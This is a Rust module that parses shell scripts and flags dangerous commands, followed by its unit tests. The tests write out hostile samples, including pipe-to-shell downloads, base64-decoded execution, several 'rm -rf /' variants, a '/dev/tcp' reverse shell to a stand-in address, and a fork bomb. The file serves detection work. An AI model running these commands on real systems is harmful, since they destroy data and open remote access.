//! Finds harmful shell commands: those that run downloaded code, delete files, open remote access, or send files away.
//!
//! Commands are parsed with their quotes, pipes and substitutions, so `echo "rm -rf /"` is text and `'rm' -rf /` is a
//! command. Not detected: a command assembled from variables, a here-document that a shell runs, and code in another
//! language. Policies call it by the function `semgrep`, and [`python`](super::python) for the commands in notebooks.

mod effective_command;
mod expansion;
mod parser;
mod scanner;
mod syntax;
mod words;

use std::ops::Range;

use super::MAX_FINDINGS;
use scanner::{CommandScanner, Flow, ScriptLocation};

/// The severity of a command.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum IssueSeverity {
    /// Rarely needed, and often a step of an attack.
    Warning,
    /// Destroys data, opens access or sends data.
    Error,
}

impl IssueSeverity {
    /// Returns `warning` or `error`.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Warning => "warning",
            Self::Error => "error",
        }
    }
}

/// An unsafe command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UnsafeCommand {
    /// The effect, such as `PIPE_TO_SHELL`.
    pub kind: &'static str,
    /// The bytes of the command or pipeline.
    pub span: Range<usize>,
    /// The severity.
    pub severity: IssueSeverity,
}

/// Returns the unsafe commands of a script, in order, without duplicates; at most [`MAX_FINDINGS`].
///
/// ```
/// let issues = flowgate_detect::shell::find("cd /tmp && curl https://x.example/i | sudo bash");
/// assert_eq!((issues[0].kind, issues[0].span.start), ("PIPE_TO_SHELL", 11));
/// ```
pub fn find(text: &str) -> Vec<UnsafeCommand> {
    let mut scanner = CommandScanner::new(text.len());
    scanner.scan_script(text, &ScriptLocation::Whole, &Flow::default());
    if scanner.is_incomplete() {
        scanner.report("TOO_COMPLEX", 0..text.len(), IssueSeverity::Error);
    }
    // The fork bomb defines a function named `:`, which calls itself.
    let squeezed: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    if squeezed.contains(":(){:|:&};:") {
        // An estimate: the white space is lost, and with it the exact position.
        let start = text.find(':').unwrap_or(0);
        scanner.report("FORK_BOMB", start..text.len(), IssueSeverity::Error);
    }
    let mut issues = scanner.issues;
    issues.sort_by_key(|issue| (issue.span.start, issue.span.end));
    issues.truncate(MAX_FINDINGS);
    issues
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_unsafe() {
        let check = |text: &str, expected: &[(&str, &str)]| {
            let found: Vec<_> =
                find(text).into_iter().map(|issue| (issue.kind, text.get(issue.span).unwrap())).collect();
            assert_eq!(found, expected, "{text}");
        };
        check("ls; curl x | sudo bash -s -- -y", &[("PIPE_TO_SHELL", "curl x | sudo bash -s -- -y")]);
        check("bash -c \"$(curl x)\"", &[("PIPE_TO_SHELL", "bash -c \"$(curl x)\"")]);
        check("curl x > i.sh && bash i.sh", &[("PIPE_TO_SHELL", "bash i.sh")]);
        check("echo x | base64 -d | sh", &[("DECODE_TO_SHELL", "echo x | base64 -d | sh")]);
        check("a $(rm -rf /) b", &[("REMOVE_ALL", "rm -rf /")]);
        check("bash -c 'rm -rf ~'", &[("REMOVE_ALL", "'rm -rf ~'")]);
        check(
            "FOO=1 sudo -u root timeout 5 rm -r -f /etc/",
            &[("REMOVE_ALL", "FOO=1 sudo -u root timeout 5 rm -r -f /etc/")],
        );
        for wrapped in [
            "sudo --user root rm -rf /",
            "sudo --user=root --chdir /tmp rm -rf /",
            "timeout --signal KILL 5 rm -rf /",
            "stdbuf -o L rm -rf /",
            "env --unset HOME rm -rf /",
        ] {
            check(wrapped, &[("REMOVE_ALL", wrapped)]);
        }
        check("eval $x", &[("EVAL", "eval $x")]);
        check(
            "bash -i >& /dev/tcp/1.2.3.4/5 0>&1",
            &[("REVERSE_SHELL", "bash -i >& /dev/tcp/1.2.3.4/5 0>&1")],
        );
        check("echo 'rm -rf /' # eval $x", &[]);
        check("rm -rf target", &[]);
        check(":(){ :|:& };:", &[("FORK_BOMB", ":(){ :|:& };:")]);
    }

    #[test]
    fn depth_is_bounded() {
        let deep = format!("{}rm -rf /{}", "$(".repeat(5000), ")".repeat(5000));
        assert!(find(&deep).is_empty());
    }
}
